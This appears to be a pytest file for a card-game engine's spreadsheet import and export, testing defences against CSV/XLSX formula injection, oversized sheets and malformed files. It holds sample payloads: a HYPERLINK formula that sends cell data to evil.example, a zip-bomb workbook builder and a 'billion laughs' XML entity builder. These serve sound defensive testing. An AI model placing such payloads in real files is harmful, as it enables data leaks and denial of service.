"""Spreadsheets are data both ways (issue 26, items 5 and 8): text never becomes a formula,
a sheet past a limit is refused with its place, and no file makes a reader fail with a
traceback, on the command line or in the studio's import action."""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from engine.cli import main
from engine.rulesets.registry import get_ruleset
from engine.scenario.card_sheet import (
    card_types_of,
    deck_table,
    import_sheet,
    read_sheet,
    write_sheet,
)
from engine.scenario.io import (
    load_scenario,
    parse_json,
    read_text,
    scenario_from_data,
    scenario_text,
)

ROOT = Path(__file__).resolve().parents[2]
HISTORY = ROOT / "scenarios" / "history-of-the-world.json"
TEXTS = ['=HYPERLINK("http://evil.example/?"&A1,"Details")', "+1+1", "-2", "@SUM(A1:A2)", "\tcmd",
         "'quoted", "''twice", "plain = text"]


def _raw_with_texts() -> dict:
    raw = parse_json(read_text(HISTORY))[0]
    events = next(deck for deck in raw["decks"] if deck["id"] == "events")
    for card, text in zip(events["cards"], TEXTS):
        card["text"] = text
    return raw


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_text_that_looks_like_a_formula_is_written_as_text_and_read_back_unchanged(tmp_path, suffix):
    raw = _raw_with_texts()
    events = next(deck for deck in raw["decks"] if deck["id"] == "events")
    types = get_ruleset("history-of-the-world").card_type_map()
    sheet = tmp_path / f"events{suffix}"
    write_sheet(sheet, *deck_table(events, card_types_of(types, events)))
    if suffix == ".xlsx":
        cells = [cell for row in load_workbook(sheet).active.iter_rows() for cell in row]
        assert [cell.value for cell in cells if cell.data_type == "f"] == []
    else:
        with sheet.open(encoding="utf-8", newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t"))]
    result = import_sheet(raw, "events", *read_sheet(sheet), types, HISTORY.parent, get_ruleset)
    assert result.problems == [] and result.changes == []
    assert [card.text for card in result.scenario.deck("events").cards[:len(TEXTS)]] == TEXTS
    before, problems = scenario_from_data(raw, HISTORY.parent, get_ruleset)
    assert problems == [] and scenario_text(result.scenario, get_ruleset) == scenario_text(before, get_ruleset)


def _bomb(path: Path) -> None:
    """A valid workbook that carries 40 MB of zeros: a few kilobytes on disk."""
    book = Workbook()
    book.active.append(["id", "name", "type"])
    book.save(path)
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/padding.bin", bytes(40 * 2**20))


LIMITS = {
    "unpacked size": ("bomb.xlsx", _bomb, "unpacked"),
    "rows": ("rows.csv", lambda p: p.write_text("id,name,type\n" + "e,E,event\n" * 1_000_000), "row 10002"),
    "columns": ("wide.csv", lambda p: p.write_text(",".join(f"c{i}" for i in range(100_000)) + "\n"),
                "row 1, column GS"),
    "cell length": ("long.csv", lambda p: p.write_text("id,name,type\ne," + "x" * 40_000 + ",event\n"),
                    "row 2, column B"),
}


@pytest.mark.parametrize("limit", LIMITS)
def test_a_sheet_past_a_limit_is_refused_at_its_place(tmp_path, capsys, limit):
    name, make, place = LIMITS[limit]
    make(tmp_path / name)
    assert main(["cards", "import", str(HISTORY), str(tmp_path / name), "--deck", "events"]) == 1
    error = capsys.readouterr().err
    assert f"{name}: " in error and place in error and len(error.splitlines()) == 1


def _with_entities(path: Path) -> None:
    """A workbook whose sheet defines nested entities (a "billion laughs")."""
    book = Workbook()
    book.active.append(["id", "name", "type"])
    book.save(path)
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    entities = '<!ENTITY a0 "aaaaaaaaaa">' + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
    sheet = members["xl/worksheets/sheet1.xml"].decode()
    sheet = sheet.replace("<worksheet", f"<!DOCTYPE worksheet [{entities}]><worksheet", 1)
    members["xl/worksheets/sheet1.xml"] = sheet.replace("</row>", '<c r="D1" t="inlineStr"><is><t>&a9;</t></is></c></row>',
                                                        1).encode()
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)


BROKEN = {
    "not a zip": ("deck.xlsx", lambda p: p.write_text("id,name,type\n")),
    "a 131 KB cell": ("deck.csv", lambda p: p.write_text("id,name,type\ne," + "x" * 140_000 + ",event\n")),
    "an entity": ("deck.xlsx", _with_entities),
    "not UTF-8": ("deck.csv", lambda p: p.write_bytes(b"id,name,type\ne,\xff,event\n")),
}


@pytest.mark.parametrize("case", BROKEN)
def test_a_broken_sheet_is_a_located_problem_in_the_cli_and_the_studio(qapp, tmp_path, capsys, case):
    from studio.cards.import_dialog import ImportDialog, read_import
    from studio.document import ScenarioDocument

    name, make = BROKEN[case]
    path = tmp_path / name
    make(path)
    assert main(["cards", "import", str(HISTORY), str(path), "--deck", "events"]) == 1
    assert capsys.readouterr().err.startswith(f"epoch cards: {name}: ")
    document = ScenarioDocument(load_scenario(HISTORY, get_ruleset), HISTORY)
    result = read_import(document, "events", path)
    assert len(result.problems) == 1 and result.problems[0].message.startswith(f"{name}: ")
    dialog = ImportDialog(path, "events", result)
    assert dialog.list.topLevelItemCount() == 1 and not dialog.apply_button.isEnabled()
